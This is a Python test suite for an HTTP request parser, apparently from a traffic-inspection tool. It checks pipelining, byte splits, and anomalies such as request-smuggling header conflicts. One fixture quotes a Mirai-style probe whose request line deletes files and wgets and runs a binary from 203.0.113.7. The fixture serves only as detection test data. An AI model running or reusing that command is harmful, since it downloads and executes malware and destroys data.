from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reassembly import NEED_DATA, Anomaly, HttpRequest, HttpRequestParser
from tests.builders import FLOW

PIPELINE = (
    b"GET /products?id=1 HTTP/1.1\r\nHost: shop.example.com\r\n\r\n"
    b"POST /login HTTP/1.1\r\nHost: shop.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: 20\r\n\r\nuser=alice&pass=1234"
    b"PUT /upload HTTP/1.1\r\nHost: shop.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\nX-Trailer: yes\r\n\r\n"
)


def parse(chunks: list[bytes], **options: int) -> list[HttpRequest | Anomaly]:
    parser = HttpRequestParser(FLOW, **options)
    events: list[HttpRequest | Anomaly] = []
    for ts, chunk in enumerate(chunks):
        parser.receive_data(chunk, float(ts))
        while (event := parser.next_event()) is not NEED_DATA:
            events.append(event)  # type: ignore[arg-type]
    if (unfinished := parser.close()) is not None:
        events.append(unfinished)
    return events


def summary(events: list[HttpRequest | Anomaly]) -> list[tuple[object, ...]]:
    return [
        (e.method, e.target, e.version, e.body, e.body_length, e.complete, e.anomalies)
        if isinstance(e, HttpRequest)
        else ("anomaly", e.name)
        for e in events
    ]


EXPECTED = [
    ("GET", "/products?id=1", "HTTP/1.1", b"", 0, True, ()),
    ("POST", "/login", "HTTP/1.1", b"user=alice&pass=1234", 20, True, ()),
    ("PUT", "/upload", "HTTP/1.1", b"hello world", 11, True, ()),
]


def test_pipelined_requests_whole() -> None:
    events = parse([PIPELINE])
    assert summary(events) == EXPECTED
    assert events[2].headers[-1] == ("X-Trailer", "yes")  # type: ignore[union-attr]


def test_pipelined_requests_one_byte_at_a_time() -> None:
    assert summary(parse([PIPELINE[i : i + 1] for i in range(len(PIPELINE))])) == EXPECTED


def test_pipelined_requests_split_at_every_offset() -> None:
    for cut in range(1, len(PIPELINE)):
        assert summary(parse([PIPELINE[:cut], PIPELINE[cut:]])) == EXPECTED, cut


@given(st.lists(st.integers(1, len(PIPELINE) - 1), max_size=20))
def test_pipelined_requests_any_split(cuts: list[int]) -> None:
    bounds = [0, *sorted(set(cuts)), len(PIPELINE)]
    assert summary(parse([PIPELINE[a:b] for a, b in pairwise(bounds)])) == EXPECTED


def test_request_time_is_when_its_first_byte_arrived() -> None:
    first, second = PIPELINE.split(b"POST", 1)
    events = parse([first[:10], first[10:], b"POST" + second])
    assert [e.ts for e in events] == [0.0, 2.0, 2.0]


def test_target_is_kept_exactly_as_on_the_wire() -> None:
    (request,) = parse([b"GET /a%20b/../c?q=%27 x HTTP/1.1\r\nHost: h\r\n\r\n"])
    assert isinstance(request, HttpRequest)
    assert request.target == "/a%20b/../c?q=%27 x"
    assert request.anomalies == ("space_in_target",)


def test_headers_keep_order_case_and_every_byte() -> None:
    (request,) = parse([b"GET / HTTP/1.1\r\nHost: h\r\nX-Name: caf\xe9\r\nx-name: 2\r\n\r\n"])
    assert isinstance(request, HttpRequest)
    assert request.headers == (("Host", "h"), ("X-Name", "caf\xe9"), ("x-name", "2"))
    assert request.header("X-NAME") == "caf\xe9"


_HEADER_NAMES = st.sampled_from(["Host", "host", "HOST", "hOsT", "Hosts", "Hos", "X-Host", "\u0130ost", "Accept"])


@given(st.lists(st.tuples(_HEADER_NAMES, st.sampled_from(["", "a.example", "b.example:8080"])), max_size=5))
def test_host_is_the_first_host_header_or_nothing(headers: list[tuple[str, str]]) -> None:
    request = HttpRequest(ts=0.0, flow=FLOW, version="HTTP/1.1", headers=tuple(headers), method="GET", target="/")
    assert request.host == (request.header("host") or "")


def test_body_beyond_the_inspection_depth_is_counted_not_kept() -> None:
    (request,) = parse([b"POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\n0123456789"], body_inspection_bytes=4)
    assert isinstance(request, HttpRequest)
    assert (request.body, request.body_length) == (b"0123", 10)


def test_a_request_cut_short_by_the_end_of_the_stream_is_kept_incomplete() -> None:
    (request,) = parse([b"POST /x HTTP/1.1\r\nContent-Length: 100\r\n\r\npartial"])
    assert isinstance(request, HttpRequest)
    assert (request.body, request.body_length, request.complete) == (b"partial", 7, False)
    assert request.anomalies == ("message_incomplete",)


@pytest.mark.parametrize(
    ("raw", "anomalies"),
    [
        (
            b"POST / HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            ("content_length_and_chunked",),
        ),
        (b"POST / HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd", ("multiple_content_length",)),
        (b"GET / HTTP/1.1\nHost: h\n\n", ("bare_lf",)),
        (b"GET / HTTP/1.1\r\nX-A: 1\r\n  folded\r\n\r\n", ("obs_fold",)),
        (b"GET / HTTP/1.1\r\nHost : h\r\n\r\n", ("whitespace_before_colon",)),
        (b"GET / HTTP/1.1\r\nnocolon\r\n\r\n", ("header_without_colon",)),
        (b"POST / HTTP/1.1\r\nContent-Length: x\r\n\r\n", ("invalid_content_length",)),
        (b"GET /old\r\n\r\n", ("http09_request_line",)),
    ],
)
def test_oddities_are_parsed_and_named(raw: bytes, anomalies: tuple[str, ...]) -> None:
    events = parse([raw])
    assert len(events) == 1 and isinstance(events[0], HttpRequest)
    assert events[0].anomalies == anomalies


def test_invalid_chunk_size_ends_the_message_and_parsing_resumes() -> None:
    raw = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nGET /next HTTP/1.1\r\n\r\n"
    events = parse([raw])
    assert summary(events) == [
        ("POST", "/", "HTTP/1.1", b"", 0, False, ("invalid_chunk_size",)),
        ("GET", "/next", "HTTP/1.1", b"", 0, True, ()),
    ]


def test_garbage_is_skipped_up_to_the_next_request_line() -> None:
    events = parse([b"\x16\x03\x01 binary junk\r\nmore junk\r\nGET /after HTTP/1.1\r\n\r\n"])
    assert summary(events) == [("anomaly", "garbage_before_request"), ("GET", "/after", "HTTP/1.1", b"", 0, True, ())]


def test_mid_stream_pickup_waits_for_a_line_with_a_version() -> None:
    parser_events = parse_midstream(b"tail of a body\r\n\r\nGET /real HTTP/1.1\r\n\r\n")
    assert summary(parser_events) == [
        ("anomaly", "garbage_before_request"),
        ("GET", "/real", "HTTP/1.1", b"", 0, True, ()),
    ]


def test_mid_stream_pickup_believes_a_versioned_line_with_spaces_in_its_target() -> None:
    # A Mirai-style probe, seen mid-stream in a one-sided ERSPAN mirror
    # (suricata-verify/sv-erspan2-http.pcap): the attack is the request line itself.
    line = b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://203.0.113.7/arm;sh+/tmp/arm HTTP/1.1"
    events = parse_midstream(line + b"\r\nHost: 127.0.0.1:80\r\n\r\n")
    assert [(e.target, e.anomalies) for e in events if isinstance(e, HttpRequest)] == [
        ("/shell?cd+/tmp;rm+-rf+*;wget+ http://203.0.113.7/arm;sh+/tmp/arm", ("space_in_target",))
    ]


def test_mid_stream_pickup_still_refuses_a_line_with_a_broken_version() -> None:
    events = parse_midstream(b"GET / HTTP/1.\r\n\r\n")
    assert not [e for e in events if isinstance(e, HttpRequest)]


def parse_midstream(data: bytes) -> list[HttpRequest | Anomaly]:
    parser = HttpRequestParser(FLOW, midstream=True)
    parser.receive_data(data, 0.0)
    events = []
    while (event := parser.next_event()) is not NEED_DATA:
        events.append(event)
    return events  # type: ignore[return-value]


def test_an_endless_head_is_discarded_not_buffered() -> None:
    events = parse([b"GET / HTTP/1.1\r\nX: " + b"a" * 5000], max_head_bytes=1024)
    assert summary(events) == [("anomaly", "header_too_long")]


@given(st.binary(max_size=300), st.integers(1, 50))
def test_any_bytes_parse_without_raising_whole_or_in_pieces(data: bytes, step: int) -> None:
    whole = parse([data])
    pieces = parse([data[i : i + step] for i in range(0, len(data), step)])
    assert all(isinstance(e, (HttpRequest, Anomaly)) for e in whole + pieces)
    requests = [e for e in whole if isinstance(e, HttpRequest)]
    assert sum(len(r.body) for r in requests) <= len(data)
